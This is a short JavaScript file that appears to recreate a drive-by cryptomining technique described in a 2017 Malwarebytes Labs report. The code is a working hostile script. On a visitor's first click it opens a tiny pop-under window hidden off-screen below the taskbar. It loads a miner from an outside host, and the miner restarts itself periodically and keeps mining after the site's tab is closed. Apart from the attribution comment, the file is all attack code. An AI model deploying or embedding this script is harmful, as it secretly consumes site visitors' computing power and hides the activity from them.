// hidden-window-miner, written from Malwarebytes Labs (Jérôme Segura), "Persistent
// drive-by cryptomining coming to a browser near you" (2017): a site's script opens, on the
// visitor's first click, a tiny pop-under window placed just below the taskbar, off the
// visible screen, and starts a browser miner in it. Closing the site's tab does not stop
// the mining; only closing the hidden window does.
(function () {
  var done = false;
  function launch() {
    if (done) return;
    done = true;
    var w = screen.availWidth || screen.width, h = screen.availHeight || screen.height;
    var feat = "width=1,height=1,left=" + (w - 100) + ",top=" + (h + 10) +
      ",toolbar=no,location=no,menubar=no,status=no,scrollbars=no,resizable=no";
    var pop = window.open("about:blank", "_w" + Date.now(), feat);
    if (!pop) { done = false; return; }
    try {
      pop.blur();
      window.focus();
      pop.moveTo(w - 100, h + 10);
      pop.resizeTo(1, 1);
    } catch (e) {}
    pop.document.write(
      "<html><head><title>&#8203;</title></head><body>" +
      "<script src='https://hiddenwin-miner.invalid/lib/crypta.js'><\/script>" +
      "<script>var m=new CryptoMiner.Anonymous('Sk9xQ2r7Lm3Vb8Nc',{throttle:0.1});" +
      "m.start();setInterval(function(){if(!m.isRunning())m.start();},30000);<\/script></body></html>"
    );
    pop.document.close();
  }
  document.addEventListener("click", launch, true);
  document.addEventListener("touchend", launch, true);
})();
